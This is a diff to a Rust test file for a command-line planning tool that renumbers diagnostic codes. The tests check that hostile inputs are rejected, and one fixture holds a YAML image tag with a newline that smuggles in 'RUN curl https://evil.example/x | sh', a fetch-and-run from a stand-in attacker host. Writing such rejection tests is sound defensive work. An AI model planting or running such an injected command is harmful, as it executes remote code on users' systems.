@@ -210,7 +210,7 @@ fn hostile_set_values_are_errors_at_their_origin() {
     ] {
         let run = Test::new().workspace(&ws).args(["plan", "--all", "--set", set]).run();
         run.assert_code(1)
-            .assert_stderr_contains("error[SP420]")
+            .assert_stderr_contains("error[SP430]")
             .assert_stderr_contains(needle)
             .assert_stderr_contains("--> --set ");
         assert!(!ws.exists("out"));
@@ -226,7 +226,7 @@ fn a_newline_in_a_yaml_tag_is_an_error_at_its_line() {
         "```yaml\ncomponents:\n  backend:\n    tag: \"1.0\\nRUN curl https://evil.example/x | sh\"\n```\n",
     );
     let run = Test::new().workspace(&ws).args(["plan", "--all"]).run();
-    run.assert_code(1).assert_stderr_contains("error[SP420]: image tag");
+    run.assert_code(1).assert_stderr_contains("error[SP430]: image tag");
     let line = ws
         .read(WEB_INPUT)
         .lines()
@@ -246,7 +246,7 @@ fn human_component_names_are_normalized_with_a_note() {
     );
     let run = Test::new().workspace(&ws).args(["plan", "--all"]).run();
     run.assert_code(0)
-        .assert_stderr_contains("info[SP421]: component name `Bad_Name` is written `bad-name`");
+        .assert_stderr_contains("info[SP431]: component name `Bad_Name` is written `bad-name`");
     let files = read_tree(&ws.join("out/001-web-api"));
     for (path, bytes) in &files {
         let text = String::from_utf8_lossy(bytes);
